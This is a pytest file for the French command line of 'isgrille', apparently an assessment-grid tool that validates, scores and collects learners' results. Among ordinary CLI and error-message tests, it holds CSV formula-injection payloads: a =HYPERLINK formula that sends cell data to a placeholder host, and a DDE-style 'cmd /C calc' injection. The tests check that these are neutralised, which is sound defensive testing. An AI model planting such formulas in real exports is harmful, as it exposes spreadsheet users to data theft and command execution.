"""Tests of isgrille.delivery.cli: the command line, run as a user would (``python -m isgrille ...``)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from isgrille.content.errors import Problem
from isgrille.content.loading import YAML_KINDS, data_dir, default_path
from isgrille.delivery.schema_export import SCHEMA_KINDS
from isgrille.results.collect import DEFAULT_PATTERN

from ..results.samples import base, sample

ROOT = Path(__file__).resolve().parents[2]


def run(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "isgrille", *args], cwd=cwd, capture_output=True, text=True, timeout=120
    )


def test_help_is_french_and_lists_commands():
    result = run("--help")
    assert result.returncode == 0
    for word in ("validate", "score", "schema", "afficher cette aide"):
        assert word in result.stdout


def test_no_command_prints_help_and_exits_2():
    result = run()
    assert result.returncode == 2 and "COMMANDE" in result.stdout


def test_validate_every_shipped_file():
    files = [str(default_path(kind)) for kind in YAML_KINDS] + [str(data_dir() / "examples" / "cohort_fictional.csv")]
    result = run("validate", *files)
    assert result.returncode == 0, result.stderr
    assert result.stdout.count(": valide (") == 5


def test_validate_the_key_questions_grid_and_its_examples():
    grid = data_dir() / "grids" / "questions_cles.yaml"
    examples = [
        data_dir() / "examples" / name
        for name in ("questions_cles/results_fictional.json", "questions_cles/cohort_fictional.csv")
    ]
    result = run("validate", "--grid", str(grid), str(grid), *map(str, examples))
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [
        f"{grid}: valide (grille)",
        f"{examples[0]}: valide (résultats)",
        f"{examples[1]}: valide (cohorte)",
    ]


def test_validate_reports_each_bad_file_and_exits_1(tmp_path):
    bad_grid = tmp_path / "grille.yaml"
    bad_grid.write_text(
        "kind: grid\nlevels: [A, B]\ndimensions:\n  - id: d\n    label: D\n    criteria: []\n", encoding="utf-8"
    )
    empty = tmp_path / "vide.yaml"
    empty.write_text("", encoding="utf-8")
    result = run("validate", str(default_path("quiz")), str(bad_grid), str(empty))
    assert result.returncode == 1
    assert "quiz.yaml: valide (quiz)" in result.stdout
    assert f"{bad_grid}: ligne 6, champ 'dimensions[0].criteria': au moins 1 élément attendu" in result.stderr
    assert f"{empty}: le fichier est vide" in result.stderr
    assert "2 fichiers invalides sur 3" in result.stderr


def test_validate_csv_against_another_grid(tmp_path):
    grid = tmp_path / "g.yaml"
    grid.write_text(
        "levels: [Bas, Haut]\ndimensions:\n  - id: d\n    label: D\n    criteria:\n"
        "      - id: c\n        label: C\n        descriptors: {Bas: x, Haut: y}\n",
        encoding="utf-8",
    )
    cohort = tmp_path / "c.csv"
    cohort.write_text("project,c\nP,haut\nQ,Moyen\n", encoding="utf-8")
    result = run("validate", "--grid", str(grid), str(cohort))
    assert result.returncode == 1
    assert f"{cohort}: ligne 3, colonne 'c': niveau 'Moyen' inconnu (attendu\u00a0: Bas, Haut" in result.stderr


def test_missing_file():
    result = run("validate", "nulle-part.yaml")
    assert result.returncode == 1 and "nulle-part.yaml: fichier introuvable" in result.stderr


def test_score_prints_a_tidy_csv():
    result = run("score")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 8 * 4  # 8 assessments x (3 dimensions + overall)
    recyclerie = [r for r in rows if r["project"].startswith("La Recyclerie") and r["assessor"] == "autoévaluation"]
    overall = next(r for r in recyclerie if r["scope"] == "overall")
    counts = [int(overall[level]) for level in ("Inexistant", "Faible", "Intermédiaire", "Fort")]
    assert sum(counts) + int(overall["not_rated"]) == 12
    assert overall["median"] in ("Inexistant", "Faible", "Intermédiaire", "Fort")


def test_score_bad_csv_exits_1(tmp_path):
    cohort = tmp_path / "c.csv"
    cohort.write_text("projekt\nP\n", encoding="utf-8")
    result = run("score", str(cohort))
    assert result.returncode == 1 and "colonne du projet manquante" in result.stderr


def test_schema_writes_into_a_folder(tmp_path):
    result = run("schema", "--out", str(tmp_path))
    assert result.returncode == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f"{k}.schema.json" for k in SCHEMA_KINDS)


def test_bad_option_exits_2():
    assert run("validate").returncode == 2


def test_collect_lists_each_learner_and_flags_bad_files(tmp_path):
    from isgrille import load_grid
    from isgrille.results.learner import LearnerResults
    from isgrille.results.store import save_results

    grid = load_grid()
    results = LearnerResults(project="Recyclerie", quiz={"publics_fragiles": "FAUX", "tous_secteurs": "FAUX"})
    results.rate("caractere_collectif", 2)
    save_results(results, tmp_path / "alice" / "resultats" / "mes_resultats.json", grid)
    (tmp_path / "bob" / "resultats").mkdir(parents=True)
    (tmp_path / "bob" / "resultats" / "mes_resultats.json").write_text("[]", encoding="utf-8")
    result = run("collect", str(tmp_path))
    assert result.returncode == 1
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["project"], r["quiz_correct"], r["quiz_answered"], r["criteria_rated"]) for r in rows] == [
        ("Recyclerie", "1", "2", "1")
    ]
    assert "bob/resultats/mes_resultats.json: le fichier doit contenir un objet JSON" in result.stderr


@pytest.fixture(scope="module")
def grid():
    from isgrille import load_grid

    return load_grid()


def test_cli_validates_results(tmp_path, grid):
    from isgrille.delivery.cli import main
    from isgrille.results.store import save_results

    good = tmp_path / "ok.json"
    save_results(sample(grid), good, grid)
    bad = tmp_path / "ko.json"
    bad.write_text(json.dumps(base(version=2)), encoding="utf-8")
    assert main(["validate", str(good)]) == 0
    assert main(["validate", str(good), str(bad)]) == 1


# --- in-process runs: exact lines and exit codes ------------------------------------

RESULTS = Path("resultats") / "mes_resultats.json"
HEADER = "file,project,learner,quiz_correct,quiz_answered,criteria_rated,assessors"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cli(capsys, *args: str) -> tuple[int, str, list[str]]:
    """Run main() in-process: the exit code, the output and the error output's lines."""
    from isgrille.delivery.cli import main

    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err.splitlines()


def learner(grid, home: Path, project: str, learner: str = "", assessor: str | None = None) -> Path:
    from isgrille.results.learner import LearnerResults
    from isgrille.results.store import save_results

    results = LearnerResults(project=project, learner=learner)
    results.rate("caractere_collectif", 1)
    if assessor:
        results.rate("caractere_collectif", 2, assessor=assessor)
    return save_results(results, home / RESULTS, grid)


@pytest.fixture
def homes(grid, tmp_path) -> Path:
    root = tmp_path / "homes"
    learner(grid, root / "alice", "Recyclerie", "Alice")
    learner(grid, root / "bob", "Cantine", "Bob")
    return root


def rows_of(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out)))


@pytest.mark.timeout(60)  # opening the pipe would wait for ever
def test_collect_reports_every_bad_match_and_lists_the_good_ones(capsys, grid, homes, tmp_path):
    for name in ("carol", "dan", "eve", "fay", "gus", "hal"):
        (homes / name / RESULTS).parent.mkdir(parents=True)
    (homes / "carol" / RESULTS).mkdir()
    os.mkfifo(homes / "dan" / RESULTS)
    (homes / "eve" / RESULTS).symlink_to(homes / "eve" / "parti.json")
    outside = learner(grid, tmp_path / "ailleurs", "Hors classe")
    (homes / "fay" / RESULTS).symlink_to(outside)
    (homes / "gus" / RESULTS).symlink_to(homes / "alice" / RESULTS)
    (homes / "hal" / RESULTS).write_text("[" * 990 + "]" * 990, encoding="utf-8")
    (homes / "ivy").mkdir()
    code, out, err = cli(capsys, "collect", str(homes))
    assert code == 1
    assert rows_of(out) == [
        HEADER.split(","),
        [str(homes / "alice" / RESULTS), "Recyclerie", "Alice", "0", "0", "1", "autoévaluation"],
        [str(homes / "bob" / RESULTS), "Cantine", "Bob", "0", "0", "1", "autoévaluation"],
    ]
    assert err[:5] == [
        f"{homes / 'carol' / RESULTS}: c'est un dossier, pas un fichier de résultats\u00a0: non lu",
        (
            f"{homes / 'dan' / RESULTS}: ce n'est pas un fichier ordinaire "
            "(tube nommé, socket ou périphérique)\u00a0: non lu"
        ),
        f"{homes / 'eve' / RESULTS}: lien symbolique cassé (la cible n'existe pas)\u00a0: non lu",
        str(Problem(str(homes / "fay" / RESULTS), f"lien qui mène hors de {homes} (vers {outside})\u00a0: non lu")),
        (
            f"{homes / 'gus' / RESULTS}: lien vers le fichier d'un autre apprenant "
            "(alice/resultats/mes_resultats.json)\u00a0: non lu"
        ),
    ]
    assert len(err) == 7 and err[5].startswith(f"{homes / 'hal' / RESULTS}: ")  # whatever the reader says
    assert err[6] == f"{homes}: 1 dossier sans fichier de résultats ({DEFAULT_PATTERN})\u00a0: ivy"


def test_collect_of_a_clean_class_exits_0(capsys, homes):
    code, out, err = cli(capsys, "collect", str(homes))
    assert (code, err) == (0, []) and len(rows_of(out)) == 3


def test_collect_counts_homes_without_results_and_still_exits_0(capsys, homes):
    """A learner who has not started yet is news for the trainer, not a bad file."""
    for name in ("carol", "dan", ".cache"):
        (homes / name).mkdir()
    code, out, err = cli(capsys, "collect", str(homes))
    assert code == 0 and len(rows_of(out)) == 3
    assert err == [f"{homes}: 2 dossiers sans fichier de résultats ({DEFAULT_PATTERN})\u00a0: carol, dan"]


def test_collect_an_unexpected_exception_is_one_line_and_the_rest_is_collected(capsys, homes, monkeypatch):
    from isgrille.results import collect

    real = collect.read_results

    def reader(path, grid):
        if "bob" in str(path):
            raise KeyError("x")
        return real(path, grid)

    monkeypatch.setattr(collect, "read_results", reader)
    code, out, err = cli(capsys, "collect", str(homes))
    assert code == 1 and [row[1] for row in rows_of(out)] == ["project", "Recyclerie"]
    assert err == [f"{homes / 'bob' / RESULTS}: fichier illisible (KeyError)\u00a0: 'x'"]


def test_collect_a_folder_that_does_not_exist_exits_2(capsys, tmp_path):
    code, out, err = cli(capsys, "collect", str(tmp_path / "nulle-part"))
    assert (code, out) == (2, "")
    assert err == [
        (
            f"{tmp_path / 'nulle-part'}: dossier introuvable (attendu\u00a0: le dossier qui contient "
            "les dossiers personnels des apprenants, par exemple /home)"
        )
    ]


def test_collect_a_file_given_as_the_folder_exits_2(capsys, homes):
    code, out, err = cli(capsys, "collect", str(homes / "alice" / RESULTS))
    assert (code, out) == (2, "")
    assert err == [
        (
            f"{homes / 'alice' / RESULTS}: ce n'est pas un dossier (attendu\u00a0: le dossier qui contient "
            "les dossiers personnels des apprenants, par exemple /home)"
        )
    ]


def test_collect_a_pattern_out_of_the_folder_exits_2(capsys, homes):
    code, out, err = cli(capsys, "collect", str(homes), "--pattern", "../*.json")
    assert (code, out) == (2, "") and err[0].startswith(f"{homes}: motif '../*.json' invalide (attendu\u00a0: ")


HOSTILE = '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")'


def test_collect_neutralises_formulas_in_learners_text(capsys, grid, tmp_path):
    root = tmp_path / "homes"
    learner(grid, root / "alice", HOSTILE, "@SOMME(1+1)*cmd|' /C calc'!A0", assessor="-2+3")
    learner(grid, root / "=bob", "+33 6 12 34 56 78", "-Zoé")
    code, out, err = cli(capsys, "collect", str(root))
    assert (code, err) == (0, [])
    rows = rows_of(out)
    assert rows[1:] == [
        [str(root / "=bob" / RESULTS), "'+33 6 12 34 56 78", "'-Zoé", "0", "0", "1", "autoévaluation"],
        [
            str(root / "alice" / RESULTS),
            "'" + HOSTILE,
            "'@SOMME(1+1)*cmd|' /C calc'!A0",
            "0",
            "0",
            "1",
            "autoévaluation\u202f; -2+3",
        ],
    ]
    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]


def test_collect_neutralises_a_relative_path_that_starts_like_a_formula(capsys, grid, tmp_path, monkeypatch):
    learner(grid, tmp_path / "=cmd", "P")
    monkeypatch.chdir(tmp_path)
    code, out, _ = cli(capsys, "collect", ".")
    assert code == 0 and rows_of(out)[1][0] == "'" + str(Path("=cmd") / RESULTS)


def test_score_neutralises_formulas_and_keeps_numbers(capsys, grid, tmp_path):
    cohort = tmp_path / "cohorte.csv"
    others = [""] * (len(grid.criteria) - 1)
    with cohort.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["project", "assessor", *(c.id for c in grid.criteria)])
        writer.writerow([HOSTILE, "@formateur", "Fort", *others])
        writer.writerow(["-Moins", "+plus", "", *others])
    code, out, err = cli(capsys, "score", str(cohort), "--grid", str(default_path("grid")))
    assert (code, err) == (0, [])
    rows = rows_of(out)
    assert rows[0] == [
        "project",
        "assessor",
        "scope",
        "Inexistant",
        "Faible",
        "Intermédiaire",
        "Fort",
        "not_rated",
        "median",
        "at_least",
        "share",
    ]
    overall = [row for row in rows if row[2] == "overall"]
    assert overall == [
        ["'" + HOSTILE, "'@formateur", "overall", "0", "0", "0", "1", "11", "Fort", "1", "1.0"],
        ["'-Moins", "'+plus", "overall", "0", "0", "0", "0", "12", "", "0", ""],
    ]
    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]


def test_score_writes_the_share_between_0_and_1_with_three_decimals_at_most(capsys):
    code, out, _ = cli(capsys, "score")
    rows = rows_of(out)
    assert rows[0][-2:] == ["at_least", "share"]
    shares = [row[-1] for row in rows[1:] if row[-1]]
    assert code == 0 and shares and all(0 <= float(p) <= 1 and len(p.partition(".")[2]) <= 3 for p in shares)
    assert all(int(row[-2]) >= 0 for row in rows[1:])


def test_an_unexpected_error_is_one_french_line_not_a_traceback(capsys, monkeypatch):
    from isgrille.analysis import scoring

    def score(grid, assessment):
        raise RuntimeError("boum\nici")

    monkeypatch.setattr(scoring, "score_assessment", score)
    code, _, err = cli(capsys, "score")
    assert code == 1
    assert err == [
        (
            "python -m isgrille score\u00a0: erreur inattendue\u00a0: RuntimeError (boum ici)\u202f; "
            "signalez-la avec la commande et le fichier"
        )
    ]


def test_an_interruption_is_one_line(capsys, monkeypatch):
    from isgrille.delivery import schema_export

    def write_schemas(out):
        raise KeyboardInterrupt

    monkeypatch.setattr(schema_export, "write_schemas", write_schemas)
    assert cli(capsys, "schema")[::2] == (130, ["python -m isgrille schema\u00a0: interrompu"])


def test_validate_reports_any_exception_per_file_and_goes_on(capsys, monkeypatch, tmp_path):
    from isgrille.delivery import validate

    real = validate.validate_file

    def validate_file(path, grid=None):
        if path.name == "quiz.yaml":
            raise MemoryError
        return real(path, grid)

    monkeypatch.setattr(validate, "validate_file", validate_file)
    code, out, err = cli(capsys, "validate", str(default_path("quiz")), str(default_path("grid")))
    assert code == 1
    assert out.splitlines() == [f"{default_path('grid')}: valide (grille)"]
    assert err == [f"{default_path('quiz')}: fichier illisible (MemoryError)", "1 fichier invalide sur 2"]


def test_validate_a_file_nested_990_levels_deep_is_reported(capsys, tmp_path):
    deep = tmp_path / "profond.json"
    deep.write_text("[" * 990 + "]" * 990, encoding="utf-8")
    code, out, err = cli(capsys, "validate", str(deep), str(default_path("grid")))
    assert code == 1 and out.splitlines() == [f"{default_path('grid')}: valide (grille)"]
    assert err[0].startswith(f"{deep}: ") and err[-1] == "1 fichier invalide sur 2"


class _BrokenPipe(io.StringIO):
    def write(self, text: str) -> int:
        raise BrokenPipeError(32, "Broken pipe")


@pytest.mark.parametrize("command", ["score", "collect"])
def test_a_broken_pipe_stops_quietly(capsys, monkeypatch, homes, command):
    from isgrille.delivery.cli import main

    monkeypatch.setattr(sys, "stdout", _BrokenPipe())
    code = main([command, str(homes)] if command == "collect" else [command])
    assert code == 0 and capsys.readouterr().err == ""


# --- argparse, in French ---------------------------------------------------------------


@pytest.mark.parametrize("args", [["--help"], ["collect", "--help"], ["score", "--help"], ["present", "--help"]])
def test_help_is_all_french(capsys, args):
    code, out, _ = cli(capsys, *args)
    assert code == 0 and out.startswith("utilisation\u00a0: python -m isgrille")
    for english in ("usage:", "positional arguments", "optional arguments", "show this help", "options:"):
        assert english not in out
    assert "options\u00a0:" in out


@pytest.mark.parametrize(
    ("args", "last"),
    [
        (
            ["collect"],
            "python -m isgrille collect\u00a0: erreur\u00a0: arguments obligatoires manquants\u00a0: DOSSIER",
        ),
        (
            ["collecte"],
            (
                "python -m isgrille\u00a0: erreur\u00a0: argument COMMANDE\u00a0: choix invalide\u00a0: 'collecte' "
                "(choix possibles\u00a0: 'validate', 'score', 'schema', 'collect', 'cohort', 'card', 'init', 'present', 'room', 'pack')"
            ),
        ),
        (
            ["present", "--port", "x"],
            "python -m isgrille present\u00a0: erreur\u00a0: argument --port\u00a0: nombre entier attendu, pas 'x'",
        ),
        (
            ["score", "--grid"],
            "python -m isgrille score\u00a0: erreur\u00a0: argument --grid\u00a0: une valeur attendue",
        ),
        (["schema", "--zz"], "python -m isgrille\u00a0: erreur\u00a0: arguments inconnus\u00a0: --zz"),
        (
            ["validate"],
            "python -m isgrille validate\u00a0: erreur\u00a0: arguments obligatoires manquants\u00a0: FICHIER",
        ),
    ],
)
def test_usage_errors_are_french_and_exit_2(capsys, args, last):
    code, out, err = cli(capsys, *args)
    assert (code, out) == (2, "")
    assert err[0].startswith("utilisation\u00a0: python -m isgrille") and err[-1] == last


# --- once for real: python -m isgrille collect, a hostile class -------------------------


def test_collect_for_real_on_a_hostile_class(grid, homes):
    learner(grid, homes / "carol", HOSTILE)
    (homes / "dan" / RESULTS).parent.mkdir(parents=True)
    (homes / "dan" / RESULTS).write_text("[" * 990 + "]" * 990, encoding="utf-8")
    (homes / "eve").mkdir()
    result = run("collect", str(homes))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert [row[1] for row in rows_of(result.stdout)] == ["project", "Recyclerie", "Cantine", "'" + HOSTILE]
    lines = result.stderr.splitlines()
    assert len(lines) == 2 and lines[0].startswith(f"{homes / 'dan' / RESULTS}: ")
    assert lines[1] == f"{homes}: 1 dossier sans fichier de résultats ({DEFAULT_PATTERN})\u00a0: eve"


def test_collect_for_real_into_a_closed_pipe_is_quiet(homes):
    read, write = os.pipe()
    os.close(read)  # nobody will ever read: the first write breaks the pipe
    try:
        result = subprocess.run(
            [sys.executable, "-m", "isgrille", "collect", str(homes)],
            cwd=ROOT,
            stdout=write,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
        )
    finally:
        os.close(write)
    assert (result.returncode, result.stderr) == (0, "")


def test_a_missing_folder_for_real_exits_2_without_a_header(tmp_path):
    result = run("collect", str(tmp_path / "nulle-part"))
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr.startswith(f"{tmp_path / 'nulle-part'}: dossier introuvable")


def test_validate_names_each_kind_in_french(capsys):
    files = [default_path(kind) for kind in ("grid", "quiz", "concepts", "workshop")]
    files.append(data_dir() / "examples" / "cohort_fictional.csv")
    code, out, err = cli(capsys, "validate", *map(str, files))
    assert (code, err) == (0, [])
    assert out.splitlines() == [
        f"{path}: valide ({kind})"
        for path, kind in zip(files, ["grille", "quiz", "concepts", "atelier", "cohorte"], strict=True)
    ]


def test_validate_with_a_grid_that_cannot_be_read(capsys, tmp_path):
    code, out, err = cli(capsys, "validate", "--grid", str(tmp_path / "absente.yaml"), str(default_path("quiz")))
    assert (code, out) == (1, "") and len(err) == 1
    assert err[0].startswith(f"{tmp_path / 'absente.yaml'}: grille introuvable\u00a0: ce n'est ni un fichier existant")
    assert "questions_cles" in err[0]


# --- score of a results file, init, present without the workshop -------------------------


def test_score_a_results_file_one_block_per_assessor(capsys, grid, tmp_path):
    from isgrille.results.store import save_results

    path = save_results(sample(grid), tmp_path / "mes_resultats.json", grid)
    code, out, err = cli(capsys, "score", str(path))
    assert (code, err) == (0, [])
    rows = rows_of(out)
    assert rows[0][:3] == ["project", "assessor", "scope"]
    overall = [row[:3] + row[-3:] for row in rows if row[2] == "overall"]
    assert overall == [
        ["Ma recyclerie <b>", "autoévaluation", "overall", "Faible", "0", "0.0"],
        ["Ma recyclerie <b>", "formateur", "overall", "Fort", "1", "1.0"],
    ]


def test_score_a_results_file_named_otherwise_for_real(grid, tmp_path):
    from isgrille.results.store import save_results

    path = save_results(sample(grid), tmp_path / "resultats.txt", grid)
    result = run("score", str(path))
    assert result.returncode == 0 and "colonne" not in result.stderr
    assert [row[1] for row in rows_of(result.stdout) if row[2] == "overall"] == ["autoévaluation", "formateur"]


def test_score_a_bad_results_file_says_what_score_takes(capsys, tmp_path):
    path = tmp_path / "r.json"
    path.write_text('{"format": "autre"}', encoding="utf-8")
    code, out, err = cli(capsys, "score", str(path))
    assert (code, out) == (1, "") and err[0].startswith(f"{path}: ")
    assert err[-1] == f"{path}: score attend une cohorte (CSV) ou un fichier de résultats (JSON)"


def test_init_copies_and_says_what_to_run(capsys, tmp_path):
    folder = tmp_path / "salle"
    code, out, err = cli(capsys, "init", str(folder))
    assert (code, err) == (0, [])
    lines = out.splitlines()
    assert f"copié\u00a0: {folder / '00_accueil.ipynb'}" in lines
    assert lines[-1] == (
        f"Ensuite\u00a0: cd {folder} && python -m isgrille present "
        "(ou python -m isgrille present --dir DOSSIER depuis ailleurs)"
    )
    assert (folder / "04_booster.ipynb").is_file()


def test_init_refuses_to_overwrite_and_names_the_files(capsys, tmp_path):
    for name in ("00_accueil.ipynb", "02_caracteriser.ipynb"):
        (tmp_path / name).write_text("à moi", encoding="utf-8")
    code, out, err = cli(capsys, "init", str(tmp_path))
    assert (code, out) == (1, "")
    assert err == [
        (
            f"{tmp_path}: 2 fichiers déjà présents, rien n'est copié\u00a0: 00_accueil.ipynb, "
            "02_caracteriser.ipynb (ajoutez --force pour les remplacer)"
        )
    ]
    assert (tmp_path / "00_accueil.ipynb").read_text(encoding="utf-8") == "à moi"
    assert cli(capsys, "init", "--force", str(tmp_path))[0] == 0
    assert (tmp_path / "00_accueil.ipynb").read_text(encoding="utf-8") != "à moi"


def test_init_into_a_file_is_one_french_line(capsys, tmp_path):
    blocker = tmp_path / "fichier"
    blocker.write_text("", encoding="utf-8")
    code, out, err = cli(capsys, "init", str(blocker / "salle"))
    assert (code, out) == (1, "") and len(err) == 1 and err[0].startswith(f"{blocker / 'salle'}: ")
    assert "Traceback" not in err[0] and "Error" not in err[0]


def test_present_a_folder_without_the_workshop_says_to_run_init(capsys, tmp_path):
    code, out, err = cli(capsys, "present", "--dir", str(tmp_path))
    assert (code, out) == (1, "")
    assert err == [
        (
            f"{tmp_path}: l'atelier n'y est pas (attendu\u00a0: un dossier qui contient 00_accueil.ipynb)\u202f; "
            f"lancez d'abord «\u00a0python -m isgrille init {tmp_path}\u00a0»"
        )
    ]


def test_present_the_slides_of_a_copy_without_reveal(capsys, tmp_path):
    assert cli(capsys, "init", str(tmp_path))[0] == 0
    code, out, err = cli(capsys, "present", "--slides", "--dir", str(tmp_path))
    assert (code, out) == (1, "")
    assert err == [
        f"reveal.js et jQuery manquent\u00a0: lancez «\u00a0npm ci --prefix {tmp_path / '_vendor'}\u00a0» (ou make slides)"
    ]


def test_cohort_signs_every_chart_and_writes_a_readme(tmp_path):
    from PIL import Image

    out = tmp_path / "analyse"
    result = run("cohort", str(data_dir() / "examples" / "classe_fictive"), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert f"écrit\u00a0: {out / 'LISEZMOI.txt'}" in result.stdout.splitlines()
    charts = sorted(path.name for path in out.glob("*.png"))
    assert len(charts) == 3
    for name in charts:
        chunks = Image.open(out / name).text
        assert "Établi – Innovation sociale" in chunks["Source"] and "CC BY-NC-SA 4.0" in chunks["Copyright"]
    readme = (out / "LISEZMOI.txt").read_text(encoding="utf-8")
    assert all(f"- {name}\u00a0: " in readme for name in [*charts, "cohorte.csv", "quiz.csv"])
    assert "Grille de caractérisation de l'AMI Innovation sociale" in readme and "adapté" in readme


def test_cohort_with_a_grid_from_elsewhere_names_its_source(tmp_path):
    import yaml

    from isgrille.content.loading import default_path

    grid = yaml.safe_load(default_path("grid").read_text(encoding="utf-8"))
    grid.update({"title": "Grille de X", "source": "Grille maison de X"})
    grid.pop("adaptation", None)
    path = tmp_path / "grille_x.yaml"
    path.write_text(yaml.safe_dump(grid, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "analyse"
    cohort = data_dir() / "examples" / "cohort_fictional.csv"
    result = run("cohort", str(cohort), "--grid", str(path), "--out", str(out))
    assert result.returncode == 0, result.stderr
    readme = (out / "LISEZMOI.txt").read_text(encoding="utf-8")
    assert "Grille\u00a0: «\u00a0Grille de X\u00a0» — Grille maison de X." in readme and "Avise" not in readme
